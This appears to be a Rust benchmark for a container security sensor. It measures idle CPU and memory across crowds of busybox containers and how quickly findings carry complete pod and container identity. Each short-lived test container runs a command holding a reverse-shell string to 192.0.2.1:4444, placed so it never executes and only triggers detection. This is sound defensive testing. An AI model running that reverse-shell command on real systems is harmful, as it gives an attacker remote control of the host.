//! Who ran it: how long that takes with many containers on the node, and what watching them costs.

use std::{
    fs,
    path::Path,
    time::{Duration, Instant},
};

use anyhow::Context;
use e2e::{
    containerd::{Containerd, Plan},
    image::Image,
    node::Node,
};
use jiff::Timestamp;
use serde_json::Value;

use crate::statistics::show;

const IMAGE: &str = "docker.io/local/busybox:1";
/// Containers on the node while it is measured.
const CROWDS: [usize; 4] = [1, 50, 100, 500];
/// Brief containers, one after the other, in each crowd.
const BRIEF: usize = 40;
/// Brief containers of which every one must be known.
const SHARE: usize = 200;

pub(crate) fn run() -> anyhow::Result<()> {
    let image = Image::new(IMAGE)
        .file("/bin/busybox", Path::new("/bin/busybox"))
        .link("/bin/sh", "busybox")
        .entrypoint(&["/bin/busybox", "sleep", "86400"]);
    let containerd = Containerd::start(&[image])?;
    let socket = containerd.socket();
    let args = ["--container-runtime", socket.to_str().context("a path")?];
    let mut there = 0;
    for crowd in CROWDS {
        for number in there..crowd {
            let pod = containerd.pod("crowd", &format!("pod-{number}"))?;
            containerd.run(&pod, &Plan { name: "main", image: IMAGE, ..Plan::default() })?;
        }
        there = crowd;
        let node = Node::start(&args)?;
        node.wait_for_reading("containers_known", crowd as u64)?;
        idle(&node, crowd)?;
        let brief = if crowd == CROWDS[1] { SHARE } else { BRIEF };
        let (findings, lived) = briefly(&containerd, &node, brief, crowd)?;
        let mut times: Vec<f64> = findings.iter().filter_map(until_known_ms).collect();
        println!("{crowd} containers: execve to identity known {}", show(&mut times, "ms"));
        let complete = findings.iter().filter(|f| is_complete(f)).count();
        println!(
            "{crowd} containers: complete identity in {complete} of {brief} findings from containers that lived {}",
            show(&mut lived.clone(), "ms")
        );
    }
    Ok(())
}

/// Containers whose whole life is one script; their findings, and how long they lived, ms.
fn briefly(
    containerd: &Containerd,
    node: &Node,
    count: usize,
    crowd: usize,
) -> anyhow::Result<(Vec<Value>, Vec<f64>)> {
    let mut lived = Vec::new();
    for number in 0..count {
        let pod = containerd.pod("brief", &format!("brief-{crowd}-{number}"))?;
        let text = format!(": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : {number}");
        let plan = Plan { name: "app", image: IMAGE, command: &["/bin/sh", "-c", &text], ..Plan::default() };
        let id = containerd.run(&pod, &plan)?;
        let status = containerd.wait(&id)?;
        lived.push((status.finished_at - status.started_at) as f64 / 1e6);
        containerd.remove(&pod)?;
    }
    Ok((node.wait_for(|all| all.len() >= count)?, lived))
}

/// From the start of the script to the making of the finding, which waits for the identity.
fn until_known_ms(finding: &Value) -> Option<f64> {
    let time = |key: &str| finding[key].as_str()?.parse::<Timestamp>().ok();
    let nanoseconds = time("createTime")?.as_nanosecond() - time("eventTime")?.as_nanosecond();
    Some(nanoseconds as f64 / 1e6)
}

fn is_complete(finding: &Value) -> bool {
    let properties = &finding["sourceProperties"];
    ["Pod_Namespace", "Pod_Name", "Container_Name", "Container_Image_Uri", "Container_Image_Id"]
        .iter()
        .all(|key| properties[key].as_str().is_some_and(|value| !value.is_empty()))
}

/// What the sensor takes while nothing happens.
fn idle(node: &Node, crowd: usize) -> anyhow::Result<()> {
    let ticks = || -> anyhow::Result<u64> {
        let stat = fs::read_to_string(format!("/proc/{}/stat", node.sensor.pid()))?;
        let after = stat.rsplit_once(") ").context("a stat")?.1;
        let fields: Vec<&str> = after.split(' ').collect();
        Ok(fields[11].parse::<u64>()? + fields[12].parse::<u64>()?)
    };
    let (before, start) = (ticks()?, Instant::now());
    std::thread::sleep(Duration::from_secs(20));
    let seconds = (ticks()? - before) as f64 / 100.0;
    let share = seconds / start.elapsed().as_secs_f64() * 100.0;
    let memory = crate::memory::resident_mib(node.sensor.pid())?;
    println!("{crowd} containers, idle: {share:.2} % of a core, {memory:.1} MiB");
    Ok(())
}
